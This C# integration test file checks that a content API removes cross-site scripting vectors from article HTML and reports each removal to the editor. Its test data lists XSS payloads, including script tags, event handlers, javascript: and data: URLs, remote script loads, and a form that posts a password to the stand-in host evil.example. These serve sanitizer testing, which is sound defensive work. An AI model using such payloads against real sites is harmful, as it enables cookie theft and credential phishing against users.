using System.Net;
using ContentApi.IntegrationTests.Infrastructure;

namespace ContentApi.IntegrationTests.Editorial;

/// <summary>Bodies are sanitized on the way in, and the editor is told what was removed.</summary>
public class SanitizationTests(ContentApiFactory factory) : IClassFixture<ContentApiFactory>
{
    public static TheoryData<string, string, string> Vectors => new()
    {
        { "<p>Hi</p><script>alert(document.cookie)</script>", "<script", "<script>" },
        { "<p>Hi</p><SCRIPT SRC=https://evil.example/x.js></SCRIPT>", "evil.example", "<script>" },
        { "<img src=\"https://cdn.example.com/p.jpg\" onerror=\"alert(1)\">", "onerror", "onerror" },
        { "<p onmouseover=\"alert(1)\">Hover</p>", "onmouseover", "onmouseover" },
        { "<svg onload=\"alert(1)\"><circle r=\"1\"></circle></svg>", "onload", "<svg>" },
        { "<a href=\"javascript:alert(1)\">Click</a>", "javascript:", "unsafe URL" },
        { "<a href=\" javascript:alert(1)\">Click</a>", "javascript:", "unsafe URL" },
        { "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">Click</a>", "data:", "unsafe URL" },
        { "<img src=\"data:image/svg+xml,&lt;svg onload=alert(1)&gt;\">", "data:", "unsafe URL" },
        { "<iframe src=\"https://evil.example/embed\"></iframe>", "evil.example", "<iframe> from evil.example" },
        { "<iframe src=\"javascript:alert(1)\"></iframe>", "<iframe", "<iframe>" },
        { "<style>body { display: none }</style><p>x</p>", "<style", "<style>" },
        { "<p style=\"background-image: url(javascript:alert(1))\">x</p>", "javascript", "style" },
        { "<object data=\"https://evil.example/x.swf\"></object>", "<object", "<object>" },
        { "<form action=\"https://evil.example/steal\"><input name=\"password\"></form>", "<form", "<form>" },
        { "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\">", "refresh", "<meta>" },
    };

    [Theory]
    [MemberData(nameof(Vectors))]
    public async Task An_xss_vector_is_removed_and_reported(string html, string mustNotRemain, string reported)
    {
        var editor = await factory.CreateEditorClientAsync();

        var (article, _) = await factory.CreateArticleAsync(editor, new { bodyHtml = html });

        var stored = article.GetProperty("bodyHtml").GetString()!;
        Assert.DoesNotContain(mustNotRemain, stored, StringComparison.OrdinalIgnoreCase);
        Assert.Contains(article.GetProperty("sanitized").EnumerateArray(), entry => entry.GetString()!.Contains(reported, StringComparison.Ordinal));
        var reread = await (await editor.GetAsync($"/api/v1/articles/{article.GetProperty("id").GetGuid()}")).JsonAsync();
        Assert.Equal(stored, reread.GetProperty("bodyHtml").GetString());
    }

    [Fact]
    public async Task A_youtube_embed_and_news_markup_are_kept_with_nothing_reported()
    {
        const string html = "<figure><iframe src=\"https://www.youtube.com/embed/abc123\" width=\"560\" height=\"315\" allowfullscreen=\"\"></iframe>"
            + "<figcaption>Video</figcaption></figure><blockquote><p>Quote</p></blockquote>";
        var editor = await factory.CreateEditorClientAsync();

        var (article, _) = await factory.CreateArticleAsync(editor, new { bodyHtml = html });

        Assert.Contains("https://www.youtube.com/embed/abc123", article.GetProperty("bodyHtml").GetString());
        Assert.Empty(article.GetProperty("sanitized").EnumerateArray());
    }

    [Fact]
    public async Task Put_and_patch_sanitize_too()
    {
        var editor = await factory.CreateEditorClientAsync();
        var (article, etag) = await factory.CreateArticleAsync(editor);
        var id = article.GetProperty("id").GetGuid();

        var put = await editor.SendJsonAsync(HttpMethod.Put, $"/api/v1/articles/{id}", await factory.ArticleBodyAsync(new { bodyHtml = "<p>a</p><script>x()</script>" }), etag);
        var patch = await editor.PatchAsync($"/api/v1/articles/{id}", new { bodyHtml = "<p onclick=\"x()\">b</p>" }, put.ETagOf());

        Assert.Equal(HttpStatusCode.OK, put.StatusCode);
        Assert.Equal("<p>a</p>", (await put.JsonAsync()).GetProperty("bodyHtml").GetString());
        Assert.Equal("<p>b</p>", (await patch.JsonAsync()).GetProperty("bodyHtml").GetString());
        Assert.NotEmpty((await patch.JsonAsync()).GetProperty("sanitized").EnumerateArray());
    }
}
